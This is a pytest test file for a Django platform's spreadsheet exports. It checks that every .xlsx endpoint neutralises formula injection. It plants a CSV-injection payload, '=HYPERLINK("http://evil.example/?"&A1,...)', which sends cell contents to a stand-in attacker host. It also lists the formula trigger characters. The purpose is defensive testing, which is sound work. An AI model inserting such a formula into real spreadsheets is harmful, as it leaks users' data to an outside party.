"""Every .xlsx the platform produces goes through `core.xlsx` and holds no formula, whatever text
people typed: a planted `=HYPERLINK(...)` arrives as text (with a leading apostrophe)."""

from __future__ import annotations

import io
import pathlib
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from conftest import login_client
from dangjian.assignments.models import Assignment
from dangjian.core.scoping import SYSTEM
from dangjian.core.xlsx import Workbook, neutralise
from dangjian.dues import services as dues
from dangjian.dues.rules import DuesCategory, month_start
from dangjian.members.models import ImportMode, Member
from dangjian.members.services import import_job_create
from dangjian.members.tests.helpers import row_for, upload, workbook_bytes
from dangjian.orgs.models import Organization

from .conftest import Published
from .test_views import _submitted

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells_of(content: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(content))  # not read-only: data_type tells formulas apart
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def body(resp: Any) -> bytes:
    return b"".join(resp.streaming_content) if resp.streaming else resp.content


def test_neutralise() -> None:
    for text in ("=1+2", "+86", "-x", "@SUM(A1)", "\tTAB", "\rCR"):
        assert neutralise(text) == "'" + text
    assert neutralise("正常") == "正常" and neutralise(-12.5) == -12.5 and neutralise(None) is None
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.active if not write_only else wb.create_sheet("s")
        ws.append(["=1+2", -3, "x"])
        if not write_only:
            ws["D1"] = "=A1"
            ws.cell(row=2, column=1, value="@cmd")
        buf = io.BytesIO()
        wb.save(buf)
        cells = cells_of(buf.getvalue())
        assert not [c for c in cells if c.data_type == "f"]
        assert [c.value for c in cells if c.value is not None][:3] == ["'=1+2", -3, "x"]


def test_every_xlsx_endpoint_holds_no_formula(published: Published) -> None:
    w = published.world
    today = timezone.localdate()
    # Planted wherever people type text that reaches a workbook.
    Organization.objects.filter(pk=w.branch.pk).update(name=PAYLOAD)
    Member.objects.filter(pk=w.member.pk).update(name=PAYLOAD, unit=PAYLOAD, job_title="-1+1")
    Assignment.objects.filter(pk=published.assignment.pk).update(
        title=PAYLOAD, theme=PAYLOAD, collective_study=[PAYLOAD], self_study=["@SUM(A1)"]
    )
    w.branch.refresh_from_db()
    w.member.refresh_from_db()
    dues.dues_base_set(
        actor=SYSTEM, member=w.member, year=today.year, category=DuesCategory.IN_SERVICE, monthly_base_fen=510_000
    )
    dues.dues_payment_record(
        actor=w.liaison, member=w.member, months=[month_start(today)], amount_fen=7650, paid_on=today
    )
    sub = _submitted(published)
    bad = row_for(PAYLOAD, name="导入错误")
    bad["工作单位"] = "+8613800000000"
    job = import_job_create(
        actor=w.liaison, org=w.branch, upload=upload(workbook_bytes([bad])), mode=ImportMode.VALIDATE
    )
    assert job.errors

    a, t = published.assignment, published.target
    month = f"?month={month_start(today):%Y-%m}"
    endpoints = [
        reverse("members:template", args=[w.branch.pk]),
        reverse("members:export", args=[w.branch.pk]),
        reverse("members:import_errors", args=[job.pk]),
        reverse("assignments:board_export", args=[a.pk]),
        reverse("assignments:committee_summary", args=[a.pk]),
        reverse("assignments:target_summary", args=[t.pk, "xlsx"]),
        reverse("assignments:submission_file", args=[sub.pk]),
        reverse("assignments:branch_summary", args=[w.branch.pk, today.year, today.month, "xlsx"]),
        reverse("dues:register_xlsx", args=[w.branch.pk]) + f"?year={today.year}",
        reverse("dues:rollup_xlsx", args=[w.branch.pk]) + month,
        reverse("dues:rollup_xlsx", args=[w.unit.pk]) + month,
    ]
    c = login_client(w.admin)
    reached = []
    for url in endpoints:
        resp = c.get(url)
        assert resp.status_code == 200, url
        cells = cells_of(body(resp))
        assert cells, url
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert not formulas, (url, formulas)
        live = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
        assert not live, (url, live)
        if any(isinstance(c.value, str) and "'=HYPERLINK" in c.value for c in cells):
            reached.append(url)
    # The payload reached (and was neutralised in) every workbook that shows typed text.
    assert len(reached) >= len(endpoints) - 1, set(endpoints) - set(reached)


def test_no_workbook_is_written_outside_core() -> None:
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if "/tests/" in rel or rel.endswith(("core/xlsx.py", "/demo.py")):
            continue
        text = path.read_text(encoding="utf-8")
        if "from openpyxl import Workbook" in text or "openpyxl.Workbook(" in text:
            offenders.append(rel)
    assert not offenders
